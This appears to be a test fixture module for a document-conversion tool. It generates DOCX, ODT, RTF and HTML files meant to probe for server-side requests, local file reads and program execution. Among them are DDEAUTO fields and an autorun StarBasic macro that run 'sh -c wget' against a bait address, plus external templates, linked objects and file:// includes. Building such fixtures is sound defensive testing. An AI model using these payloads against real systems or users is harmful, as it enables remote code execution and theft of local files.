/** Malicious documents that try to access the network, local files or programs (SSRF, LFI, RCE); each also has visible text. */
import type { FormatId } from '@filesmith/contract/formats'
import { image, paragraph, writeDocx } from './write-docx.ts'
import { writeZip } from './write-zip.ts'

export const visibleWords = 'Visible words'

export interface HostileDocument {
  readonly what: string
  readonly format: FormatId
  readonly content: Buffer | string
}

interface Bait {
  /** URL of a listener that must receive no request. */
  readonly address: string
  /** A local image and text file whose contents must not appear in a result. */
  readonly imagePath: string
  readonly textPath: string
}

export function hostileDocuments(bait: Bait): HostileDocument[] {
  return [...hostileDocx(bait), ...hostileOdt(bait), ...hostileRtf(bait), ...hostileHtml(bait)]
}

const words = paragraph(visibleWords)
const field = (instruction: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`

function hostileDocx({ address, imagePath, textPath }: Bait): HostileDocument[] {
  const external = (type: string, target: string) => [{ id: 'bait', type, target, isExternal: true }]
  const docx = (what: string, content: Parameters<typeof writeDocx>[0]): HostileDocument => ({
    what,
    format: 'docx',
    content: writeDocx(content),
  })
  const ole =
    '<w:p><w:r><w:object><v:shape id="s" style="width:100pt;height:50pt"/><o:OLEObject Type="Link" ProgID="Word.Document" ShapeID="s" DrawAspect="Content" ObjectID="_1" r:id="bait" UpdateMode="Always"/></w:object></w:r></w:p>'
  return [
    docx('an image on a server', {
      body: words + image('bait', true),
      relations: external('image', `${address}/image.png`),
    }),
    docx('an image on the local disk', {
      body: words + image('bait', true),
      relations: external('image', `file://${imagePath}`),
    }),
    docx('a template on a server', {
      body: words,
      parts: { settings: '<w:attachedTemplate r:id="bait"/>' },
      settingsRelations: external('attachedTemplate', `${address}/template.dotm`),
    }),
    docx('fields that include files and start programs', {
      body: [
        words,
        field(`INCLUDEPICTURE "${address}/field.png" \\d`),
        field(`INCLUDETEXT "${textPath}"`),
        field(`DDEAUTO sh "-c 'wget ${address}/dde'"`),
      ].join(''),
    }),
    docx('a linked object that always updates', {
      body: words + ole,
      relations: external('oleObject', `${address}/object.docx`),
    }),
    docx('another document as a chunk (altChunk)', {
      body: `${words}<w:altChunk r:id="bait"/>`,
      relations: external('aFChunk', `file://${textPath}`),
    }),
  ]
}

function hostileOdt({ address, imagePath, textPath }: Bait): HostileDocument[] {
  const frame = (target: string) =>
    `<text:p><draw:frame svg:width="3cm" svg:height="2cm" text:anchor-type="as-char"><draw:image xlink:href="${target}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>`
  const odt = (what: string, body: string, more: Readonly<Record<string, string>> = {}): HostileDocument => ({
    what,
    format: 'odt',
    content: writeZip({
      mimetype: 'application/vnd.oasis.opendocument.text',
      'content.xml': `<?xml version="1.0" encoding="UTF-8"?><office:document-content ${odtNamespaces} office:version="1.2">${more.events ?? ''}<office:body><office:text><text:p>${visibleWords}</text:p>${body}</office:text></office:body></office:document-content>`,
      ...Object.fromEntries(Object.entries(more).filter(([name]) => name.includes('/'))),
      'META-INF/manifest.xml': `<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>${Object.keys(
        more,
      )
        .filter(name => name.includes('/'))
        .map(name => `<manifest:file-entry manifest:full-path="${name}" manifest:media-type="text/xml"/>`)
        .join('')}</manifest:manifest>`,
    }),
  })
  const macro = `<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main
  Shell("/bin/sh", 0, "-c 'wget ${address}/macro'")
End Sub</script:module>`
  const library =
    '<?xml version="1.0"?><library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/></library:library>'
  const libraries =
    '<?xml version="1.0"?><library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>'
  return [
    odt(
      'images on a server and on the local disk',
      frame(`${address}/odt.png`) + frame(`file://${imagePath}`),
    ),
    odt(
      'a section linked to another file',
      `<text:section text:name="s"><text:section-source xlink:href="file://${textPath}" text:filter-name="Text"/><text:p>old</text:p></text:section>`,
    ),
    odt('a macro that runs when the document is opened', '', {
      events: `<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts>`,
      'Basic/script-lc.xml': libraries,
      'Basic/Standard/script-lb.xml': library,
      'Basic/Standard/Module1.xml': macro,
    }),
  ]
}

const odtNamespaces = [
  ...['office', 'text', 'draw', 'script', 'style'].map(
    name => `xmlns:${name}="urn:oasis:names:tc:opendocument:xmlns:${name === 'draw' ? 'drawing' : name}:1.0"`,
  ),
  'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"',
  'xmlns:xlink="http://www.w3.org/1999/xlink"',
].join(' ')

function hostileRtf({ address, imagePath, textPath }: Bait): HostileDocument[] {
  const rtfField = (instruction: string) =>
    `{\\field\\flddirty{\\*\\fldinst ${instruction}}{\\fldrslt result}}`
  const content = [
    `{\\rtf1\\ansi{\\*\\template ${address}/template.dot} ${visibleWords}\\par `,
    rtfField(`INCLUDEPICTURE "${address}/rtf.png" \\\\d`),
    rtfField(`INCLUDEPICTURE "${imagePath}" \\\\d`),
    rtfField(`INCLUDETEXT "${textPath}"`),
    rtfField(`DDEAUTO sh "-c 'wget ${address}/dde'"`),
    '{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 0105000001000000}{\\result result}}\\par}',
  ].join('')
  return [{ what: 'fields, a template and a linked object', format: 'rtf', content }]
}

function hostileHtml({ address, imagePath, textPath }: Bait): HostileDocument[] {
  const html = (what: string, head: string, body: string): HostileDocument => ({
    what,
    format: 'html',
    content: `<!DOCTYPE html><html><head><meta charset="utf-8">${head}</head><body><p>${visibleWords}</p>${body}</body></html>`,
  })
  return [
    html(
      'every kind of resource that a page loads',
      `<base href="${address}/"><link rel="stylesheet" href="${address}/a.css"><style>@import "${address}/b.css"; p { background: url(${address}/c.png) }</style><meta http-equiv="refresh" content="0;url=${address}/d"><script src="${address}/e.js"></script>`,
      `<img src="${address}/f.png"><IMG SRC=g.png><iframe src="${address}/h"></iframe><object data="${address}/i"></object><embed src="${address}/j"><table background="${address}/k.png"><tr><td>cell</td></tr></table><video src="${address}/l" poster="${address}/m.png"></video><p style="background-image:url('${address}/n.png')">styled</p><input type="image" src="${address}/o.png">`,
    ),
    html(
      'local files',
      '',
      `<img src="file://${imagePath}"><img src="${imagePath}"><iframe src="file://${textPath}"></iframe><object data="file://${textPath}"></object><a href="../../../..${textPath}">up</a><img src="../../../../../..${imagePath}"><!--#include file="${textPath}"-->`,
    ),
  ]
}
